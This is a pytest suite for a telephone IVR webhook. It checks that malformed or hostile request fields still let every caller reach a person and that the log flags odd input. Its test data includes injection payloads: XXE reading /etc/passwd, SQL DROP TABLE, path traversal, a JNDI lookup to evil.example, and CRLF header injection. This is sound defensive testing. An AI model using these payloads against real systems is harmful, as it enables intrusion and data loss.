"""Every field may be missing, huge, repeated or hostile: the caller reaches a person, and the log says what was odd."""

import unicodedata

import pytest

from calls.call import CallState
from calls.telephone_number import NumberKind
from ivr.intake import Intake
from switchboard import paths
from tests.web.conftest import CALL, is_sound, reaches_a_person, ringing

HOSTILE = {
    "missing": None,
    "empty": "",
    "blank": " \t ",
    "huge": "가" * 20_000,
    "repeated": ["1357", "119", "x"],
    "repeated bytes": [b"\xff", b"\xfe"],
    "not UTF-8": b"\xff\xfe\xc0\x80",
    "EUC-KR": "안산 도금".encode("euc-kr"),
    "lone surrogate": b"\xed\xa0\x80 and \xed\xbf\xbf",
    "NUL": "1\0379",
    "control": "\x01\x0b\x0c\x1b[31m\x7f\x85\r\nX-Injected: 1",
    "no character": "\ufffe\uffff\ufffd\ufeff",
    "four bytes": "😀𠀀𝟙",
    "right to left": "\u202e\u0645\u0631\u062d\u0628\u0627\u2066",
    "decomposed": unicodedata.normalize("NFD", "안산에서 도금하는 업체인데요"),
    "XML": "</Say><Hangup/><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;<![CDATA[",
    "SQL": "'; DROP TABLE calls; -- \\",
    "path": "../../../../etc/passwd%00.xml",
    "format": "%s%n{0.__class__}{desk}${jndi:ldap://evil.example/a}",
    "address": "https://evil.example/?a=b&c=d",
    "number": "-1e999",
    "not a number": "NaN",
}
FIELDS = ("CallSid", "From", "To", "CallStatus", "Digits", "SpeechResult", "Confidence", "AccountSid")
ODD = ("huge", "repeated", "not UTF-8", "EUC-KR", "lone surrogate", "NUL", "control", "no character")


@pytest.mark.parametrize("name", FIELDS)
def test_a_hostile_field_keeps_nobody_from_a_person(edge, name):
    edge.line.agent("icg_1").signs_in()

    for number, hostile in enumerate(HOSTILE.values()):
        reaches_a_person(edge, {**ringing(f"CA{number:032x}", From=f"0101234{number:04}"), name: hostile})

    assert len(edge.rows()["calls"]) == len(edge.rows()["tickets"]) == len(HOSTILE)
    assert not {"call.broken", "call.rescued", "call.unknown"} & set(edge.events())


@pytest.mark.parametrize("name", ["From", "SpeechResult"])
def test_the_log_names_an_odd_field_and_keeps_its_value_out(edge, name):
    for number, kind in enumerate(ODD):
        sid = f"CA{number:032x}"
        opening = edge.rings(sid)
        edge.told.clear()

        edge.goes_on(opening, ringing(sid, **{name: HOSTILE[kind]}))

        odd = [event for event in edge.told if event["event"] == "webhook.odd_field"]
        assert {event["field"] for event in odd} == {name}, kind
        assert {frozenset(event) for event in odd} == {frozenset({"event", "log_level", "field", "times", "length"})}


def test_the_log_names_keys_that_are_none(edge):
    for number, keys in enumerate(["1x", "일", "1\0", "１", "-0", "0.0", "a" * 100]):
        sid = f"CA{number:032x}"
        opening = edge.rings(sid)
        edge.told.clear()

        edge.goes_on(opening, ringing(sid, Digits=keys))

        assert "Digits" in {event.get("field") for event in edge.told}, keys


def test_a_call_without_a_proper_id_gets_one_and_the_log_says_so(edge):
    for sid in (None, "", "x", "CA1", "ca" + "0" * 32, "CA" + "G" * 32, b"\xff", "0" * 9999, CALL.lower()):
        edge.told.clear()

        call = reaches_a_person(edge, ringing(sid))

        assert call.id.startswith("CX")
        assert "webhook.odd_call_sid" in edge.events()


def test_callers_who_share_a_broken_id_are_told_apart(edge):
    first = reaches_a_person(edge, ringing("broken", From="+821011112222"))
    second = reaches_a_person(edge, ringing("broken", From="+821033334444"))

    assert first.id != second.id


def test_the_end_of_a_call_with_a_broken_id_is_still_its_end(edge):
    call = reaches_a_person(edge, ringing("broken"))

    edge.posts(paths.CALL_STATUS, ringing("broken", CallStatus="completed"))

    assert edge.call(call.id).state is CallState.ENDED


NUMBERS = {
    "anonymous": NumberKind.WITHHELD,
    "Restricted": NumberKind.WITHHELD,
    "unknown": NumberKind.WITHHELD,
    "unavailable": NumberKind.WITHHELD,
    "": NumberKind.WITHHELD,
    None: NumberKind.WITHHELD,
    "+266696687": NumberKind.WITHHELD,
    "+7378742833": NumberKind.WITHHELD,
    "+86282452253": NumberKind.WITHHELD,
    "+8656696": NumberKind.WITHHELD,
    "+2562533": NumberKind.WITHHELD,
    "sip:anonymous@anonymous.invalid": NumberKind.WITHHELD,
    "1" * 40: NumberKind.UNKNOWN,
    "+" + "8" * 40: NumberKind.UNKNOWN,
    "sip:+821012345678@sbc.example:5060;user=phone": NumberKind.MOBILE,
    '"홍길동" <sip:01012345678@10.0.0.1>': NumberKind.MOBILE,
    "tel:+82-10-1234-5678": NumberKind.MOBILE,
    "tel:010-1234-5678;phone-context=+82": NumberKind.MOBILE,
    "０１０１２３４５６７８": NumberKind.MOBILE,
    "client:icg_1": NumberKind.STATION,
    "1357": NumberKind.SPECIAL,
    "+12125550123": NumberKind.OVERSEAS,
}


def test_every_form_of_a_number_is_read_and_its_caller_reaches_a_person(edge):
    edge.line.agent("icg_1").signs_in()

    kinds = {
        number: reaches_a_person(edge, ringing(f"CA{at:032x}", From=number, To=number)).number.kind
        for at, number in enumerate(NUMBERS)
    }

    assert kinds == NUMBERS


def test_what_a_caller_said_is_kept_as_they_said_it(edge):
    said = "안산에서 <도금> & '표면' 😀 \u202e처리\x0b가\0 안 돼요"

    edge.goes_on(edge.rings(), ringing(SpeechResult=said))

    assert Intake.from_data(edge.call().intake).wish == "안산에서 <도금> & '표면' 😀 \u202e처리 가  안 돼요"


def test_confidence_that_is_no_number_is_no_confidence(edge):
    for number, confidence in enumerate(["NaN", "inf", "-inf", "1e999", "x", "", None, b"\xff", ["0.9", "NaN"]]):
        fields = ringing(f"CA{number:032x}", SpeechResult="도금이 자꾸 벗겨져요", Confidence=confidence)
        assert is_sound(edge.goes_on(edge.posts(paths.first_turn("1379"), fields), fields))

    assert "call.broken" not in edge.events()
